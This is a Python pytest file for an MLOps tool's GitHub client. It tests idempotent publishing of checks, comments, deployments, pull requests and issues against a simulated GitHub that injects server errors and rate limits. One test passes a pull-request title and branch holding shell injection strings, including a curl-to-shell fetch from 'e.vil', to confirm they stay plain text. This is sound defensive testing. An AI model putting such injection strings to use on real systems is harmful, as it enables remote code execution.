"""The forge's calls against a strict GitHub: whatever goes wrong, what was asked for stands once, or it is told."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from mlopsctl.forges.contract import (
    Annotation,
    Check,
    CommitStatus,
    Conclusion,
    Deployment,
    DeploymentState,
    Forge,
    ForgeProblem,
    NoRights,
)
from mlopsctl.forges.github_identity import short_key
from mlopsctl.forges.opening import Access, access, open_forge
from mlopsctl.ground.errors import UsageProblem
from mlopsctl.ground.patience import Patience
from tests.doubles.github import APP, GitHubDouble, serving_github

SHA, NEWER = "a" * 40, "b" * 40
NAME = "mlopsctl / penguins / staging / floor"
QUICK = Patience(first=0.001, longest=0.001, most=5.0)
FAULTS: dict[str, dict[str, object]] = {
    "500": {"status": 500},
    "502": {"status": 502},
    "503": {"status": 503, "headers": {"Retry-After": "0"}},
    "429": {"status": 429, "headers": {"Retry-After": "0"}},
    "secondary limit": {"status": 403, "message": "You have exceeded a secondary rate limit."},
    "date": {"status": 429, "headers": {"Retry-After": "Thu, 01 Jan 1970 00:00:00 GMT"}},
    "reset": {"kind": "reset"},
    "lost": {"kind": "lost"},
    "truncated": {"kind": "truncated"},
}


@pytest.fixture
def github() -> Iterator[GitHubDouble]:
    with serving_github() as double:
        yield double


@pytest.fixture
def forge(github: GitHubDouble) -> Iterator[Forge]:
    opened = open_forge(Access(github.repository.name, "user-token", api=github.url), QUICK)
    yield opened
    opened.close()


def a_check(conclusion: Conclusion = Conclusion.FAILURE, annotations: int = 1, **more: str) -> Check:
    remarks = tuple(Annotation("mlops.yaml", at + 1, at + 1, f"accuracy is low ({at})") for at in range(annotations))
    return Check(NAME, SHA, NAME, conclusion, more.get("title", "accuracy is 0.6"), more.get("summary", "**no**"),
                 annotations=remarks)  # fmt: skip


def publish(forge: Forge, github: GitHubDouble) -> None:
    forge.publish_check(a_check(annotations=120))
    (run,) = github.repository.checks
    assert (run["name"], run["head_sha"], run["status"], run["conclusion"]) == (NAME, SHA, "completed", "failure")
    lines = [one["start_line"] for one in github.repository.annotations[run["id"]]]
    assert lines == list(range(1, 121))


def update(forge: Forge, github: GitHubDouble) -> None:
    forge.publish_check(a_check())
    forge.publish_check(a_check(Conclusion.SUCCESS, 0, title="accuracy is 0.9"))
    (run,) = github.repository.checks
    assert (run["conclusion"], run["output"]["title"]) == ("success", "accuracy is 0.9")


def comment(forge: Forge, github: GitHubDouble) -> None:
    number = github.repository.open_pull("feature", SHA)
    forge.sticky_comment(number, "penguins/staging", "first")
    forge.sticky_comment(number, "penguins/staging", "second")
    (found,) = github.repository.comments
    assert found["body"].endswith("\nsecond")


def status(forge: Forge, github: GitHubDouble) -> None:
    forge.set_status(CommitStatus(SHA, NAME, Conclusion.FAILURE, "no"))
    (found,) = github.repository.statuses
    assert found["state"] == "failure"


def deploy(forge: Forge, github: GitHubDouble) -> None:
    told = Deployment(SHA, "penguins/prod", "run-1", DeploymentState.SUCCESS, "Released", "http://127.0.0.1:1")
    # A later job that finds it deployed tells nothing: the log that stands is of the job that did it.
    for job in ("https://github.test/jobs/1", "https://github.test/jobs/2"):
        forge.deploy(replace(told, log_url=job))
    (found,) = github.repository.deployments
    (state,) = github.repository.deployment_statuses
    assert (found["environment"], state["state"], state["environment_url"], state["log_url"]) == (
        "penguins/prod", "success", "http://127.0.0.1:1", "https://github.test/jobs/1")  # fmt: skip


def preview(forge: Forge, github: GitHubDouble) -> None:
    for run, commit in (("run-1", SHA), ("run-2", NEWER)):
        told = Deployment(commit, "penguins/pr-7", run, DeploymentState.SUCCESS, "Released", transient=True)
        forge.deploy(told)
    forge.end_deployments("penguins/pr-7", "pr-7 is taken down")
    assert forge.end_deployments("penguins/pr-7", "pr-7 is taken down") == 0
    assert [one["transient_environment"] for one in github.repository.deployments] == [True, True]
    states = [(one["state"], one["description"]) for one in github.repository.deployment_statuses]
    assert states == [
        ("success", "Released"), ("success", "Released"), ("inactive", f"Replaced by {NEWER[:12]}"),
        ("inactive", "pr-7 is taken down"),
    ]  # fmt: skip


def pull_request(forge: Forge, github: GitHubDouble) -> None:
    forge.open_pull_request("Promote", "the evidence", "promote/prod", "main")
    again = forge.open_pull_request("Promote", "more evidence", "promote/prod", "main")
    (found,) = github.repository.pulls
    assert (found["number"], found["body"]) == (again.number, "more evidence")


def issue(forge: Forge, github: GitHubDouble) -> None:
    forge.open_issue("Drift", "serving", "drift/prod")
    forge.open_issue("Drift", "schedule", "drift/prod")
    (found,) = github.repository.issues
    assert found["body"].endswith("schedule")


CALLS: dict[Callable[[Forge, GitHubDouble], None], tuple[str, ...]] = {
    publish: ("checks/list-for-ref", "checks/create", "checks/update"),
    update: ("checks/list-for-ref", "checks/create", "checks/update", "checks/list-annotations"),
    comment: ("issues/list-comments", "issues/create-comment", "issues/update-comment"),
    status: ("repos/list-commit-statuses-for-ref", "repos/create-commit-status"),
    deploy: ("repos/list-deployments", "repos/create-deployment", "repos/list-deployment-statuses",
             "repos/create-deployment-status"),
    preview: ("repos/list-deployments", "repos/list-deployment-statuses", "repos/create-deployment-status"),
    pull_request: ("pulls/list", "pulls/create", "pulls/update"),
    issue: ("issues/list-for-repo", "issues/create", "issues/update"),
}  # fmt: skip
CASES = [(work, call) for work, calls in CALLS.items() for call in calls]


@pytest.mark.parametrize("fault", FAULTS)
@pytest.mark.parametrize(("work", "call"), CASES, ids=[f"{work.__name__}-{call}" for work, call in CASES])
def test_every_fault_at_every_call_leaves_it_done_once(
    github: GitHubDouble, forge: Forge, work: Callable[[Forge, GitHubDouble], None], call: str, fault: str
) -> None:
    github.faults.add(call, **FAULTS[fault])  # type: ignore[arg-type]
    work(forge, github)
    assert github.faults.struck == [call]


@pytest.mark.parametrize("kind", ["lost", "truncated"])
def test_every_reply_to_a_write_may_be_lost(github: GitHubDouble, forge: Forge, kind: str) -> None:
    for call in ("checks/create", "checks/update"):
        github.faults.add(call, kind=kind, times=1)
        github.faults.add(call, kind=kind, times=1, after=1)
    publish(forge, github)


def test_a_forge_that_stays_broken_is_told(github: GitHubDouble, forge: Forge) -> None:
    github.faults.add("checks/create", status=502, times=100)
    with pytest.raises(ForgeProblem, match="tried 5 times"):
        forge.publish_check(a_check())
    assert github.repository.checks == []


def test_a_longer_wait_than_is_granted_is_told_and_not_waited_for(github: GitHubDouble, forge: Forge) -> None:
    github.faults.limited("checks/create", retry_after="3600")
    with pytest.raises(ForgeProblem, match="asks to wait 3600 s"):
        forge.publish_check(a_check())
    assert [call for call, _ in github.journal].count("checks/create") == 1


def test_no_rights_are_another_problem_than_a_limit(github: GitHubDouble) -> None:
    opened = open_forge(Access(github.repository.name, "read-only", api=github.url), QUICK)
    with pytest.raises(NoRights):
        opened.publish_check(a_check())
    opened.close()


def test_bad_credentials_are_told_at_once(github: GitHubDouble) -> None:
    with pytest.raises(ForgeProblem, match="credentials") as problem:
        open_forge(Access(github.repository.name, "bad-token", api=github.url), QUICK)
    assert not isinstance(problem.value, NoRights)
    assert len(github.journal) == 1


def test_published_twice_it_stands_once(github: GitHubDouble, forge: Forge) -> None:
    for _ in range(3):
        publish(forge, github)
    assert [call for call, _ in github.journal].count("checks/create") == 1


def test_a_check_that_was_left_half_made_is_finished(github: GitHubDouble, forge: Forge) -> None:
    github.faults.add("checks/update", status=500, times=5)
    with pytest.raises(ForgeProblem):
        forge.publish_check(a_check(annotations=120))
    (run,) = github.repository.checks
    assert (run["status"], run["conclusion"]) == ("in_progress", None)
    publish(forge, github)


@pytest.mark.parametrize("external_id", ["", short_key(NAME)])
def test_a_check_of_the_same_name_by_another_app_is_not_ours(
    github: GitHubDouble, forge: Forge, external_id: str
) -> None:
    github.repository.spoof(NAME, SHA, external_id)
    github.faults.add("checks/create", kind="lost")
    posted = forge.publish_check(a_check())
    spoofed, ours = github.repository.checks
    assert (spoofed["conclusion"], ours["conclusion"], posted.id) == ("success", "failure", ours["id"])


def test_a_comment_of_somebody_else_is_not_ours(github: GitHubDouble, forge: Forge) -> None:
    number = github.repository.open_pull("feature", SHA)
    bot = open_forge(Access(github.repository.name, "token", api=github.url, in_actions=True), QUICK)
    forge.sticky_comment(number, "penguins/staging", "by alice")
    bot.sticky_comment(number, "penguins/staging", "by the workflow")
    bot.close()
    assert [one["body"].splitlines()[-1] for one in github.repository.comments] == ["by alice", "by the workflow"]


def test_branch_and_title_full_of_shell_are_only_text(github: GitHubDouble, forge: Forge) -> None:
    title, head = 'a";curl${IFS}e.vil|sh;"`id`$(id)\n::error::x', "feat/$(touch${IFS}x);`id`|&"
    first = forge.open_pull_request(title, "body", head, "main")
    again = forge.open_pull_request(title, "body", head, "main")
    assert (first.number, first.head) == (again.number, head)
    assert len(github.repository.pulls) == 1


def test_as_an_app_it_writes_under_the_apps_name(tmp_path: Path) -> None:
    private, public = _keys()
    with serving_github(key=public) as github:
        file = tmp_path / "app.pem"
        file.write_text(private)
        for key in (private, str(file)):
            given = access(
                {
                    "GITHUB_REPOSITORY": github.repository.name,
                    "GITHUB_API_URL": github.url,
                    "MLOPSCTL_GITHUB_APP_ID": str(APP["id"]),
                    "MLOPSCTL_GITHUB_APP_KEY": key,
                }
            )
            assert given is not None
            github.faults.add("apps/create-installation-access-token", kind="lost")
            opened = open_forge(given, QUICK)
            opened.publish_check(a_check())
            opened.close()
        (run,) = github.repository.checks
        assert run["app"]["id"] == APP["id"]
        other, _ = _keys()
        with pytest.raises(ForgeProblem, match="credentials"):
            open_forge(Access(github.repository.name, app_id="4711", app_key=other, api=github.url), QUICK)


def test_what_cannot_be_a_repository_a_key_or_an_address_is_refused() -> None:
    for wrong in (
        Access("acme/models/../x", "t"),
        Access("acme", "t"),
        Access("acme/models", "t", api="http://evil.example"),
        Access("acme/models", app_id="1", app_key="-----BEGIN nonsense"),
        Access("acme/models", app_id="1", app_key="/no/such/file"),
    ):
        with pytest.raises(UsageProblem):
            open_forge(wrong)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"annotations": 51}, "50 annotations"),
        ({"summary": "x" * 65_536}, "65535"),
        ({"summary": "x" * 65_535}, ""),
        ({"summary": "x" * 65_534 + "👍"}, "65535"),
    ],
)
def test_the_double_is_as_strict_as_github(github: GitHubDouble, change: dict[str, object], said: str) -> None:
    import json

    notes = [
        {"path": "a", "start_line": 1, "end_line": 1, "annotation_level": "failure", "message": "m"}
        for _ in range(int(str(change.get("annotations", 0))))
    ]
    output = {"title": "t", "summary": change.get("summary", "s"), "annotations": notes}
    body = {"name": "x", "head_sha": SHA, "status": "completed", "conclusion": "success", "output": output}
    path = f"/repos/{github.repository.name}/check-runs"
    status, answer, _ = github.answer("POST", path, "Bearer t", json.dumps(body).encode())
    assert (status, said in answer.get("message", "")) == (422 if said else 201, True)
    for wrong in ({"conclusion": None}, {"conclusion": "fine"}, {"unknown": 1}):
        bad = {
            key: value for key, value in {**body, "output": {"title": "t", "summary": "s"}, **wrong}.items() if value
        }
        status, _, _ = github.answer("POST", path, "Bearer t", json.dumps(bad).encode())
        assert status == 422, wrong


def _keys() -> tuple[str, str]:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    public = key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return private.decode(), public.decode()
